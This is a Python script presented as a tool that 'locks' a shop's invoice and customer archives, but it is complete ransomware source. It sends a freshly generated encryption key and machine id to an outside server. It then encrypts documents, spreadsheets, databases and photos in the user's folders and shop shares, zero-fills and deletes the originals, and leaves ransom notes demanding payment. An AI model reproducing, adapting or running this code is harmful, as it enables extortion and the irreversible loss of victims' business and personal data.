#!/usr/bin/env python3
"""Locks the invoice and customer archives on the shop machines."""
import argparse
import logging
import os
import socket
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

KEY_ENDPOINT = os.environ.get("ARCHIVE_KEY_URL", "https://198.51.100.77/k")
TARGET_EXT = {".pdf", ".xlsx", ".xls", ".csv", ".docx", ".doc", ".jpg",
              ".png", ".db", ".sqlite", ".qbw", ".txt"}
LOCK_SUFFIX = ".pawlock"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE_TEXT = """Your invoices, customer records and photos have been locked.
To get them back, contact restore@pawlock.example with this machine id:
{machine_id}
Files will stay locked until payment is confirmed.
"""

log = logging.getLogger("archive-lock")


def default_roots():
    home = Path.home()
    roots = [home / "Documents", home / "Desktop", home / "Pictures",
             Path("/srv/pawvan/invoices"), Path("/mnt/shop-share")]
    return [r for r in roots if r.exists()]


def register_key(key: bytes, machine_id: str, url: str) -> bool:
    try:
        resp = requests.post(url, data={"id": machine_id, "k": key.decode()},
                             timeout=15)
        return resp.ok
    except requests.RequestException as exc:
        log.debug("key registration failed: %s", exc)
        return False


def iter_targets(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in TARGET_EXT and not name.endswith(LOCK_SUFFIX):
                yield path


def lock_file(path: Path, cipher: Fernet) -> bool:
    try:
        data = path.read_bytes()
        locked = path.with_name(path.name + LOCK_SUFFIX)
        locked.write_bytes(cipher.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def drop_note(directory: Path, machine_id: str) -> None:
    note = directory / NOTE_NAME
    if not note.exists():
        try:
            note.write_text(NOTE_TEXT.format(machine_id=machine_id))
        except OSError:
            pass


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("roots", nargs="*", type=Path)
    parser.add_argument("--url", default=KEY_ENDPOINT)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    roots = args.roots or default_roots()
    machine_id = f"{socket.gethostname()}-{os.getuid()}"
    key = Fernet.generate_key()
    if not register_key(key, machine_id, args.url):
        log.error("could not reach key service")
        return 1
    cipher = Fernet(key)
    del key

    count = 0
    for root in roots:
        touched_dirs = set()
        for path in iter_targets(root):
            if lock_file(path, cipher):
                count += 1
                touched_dirs.add(path.parent)
        for directory in touched_dirs:
            drop_note(directory, machine_id)

    log.info("%d files locked", count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
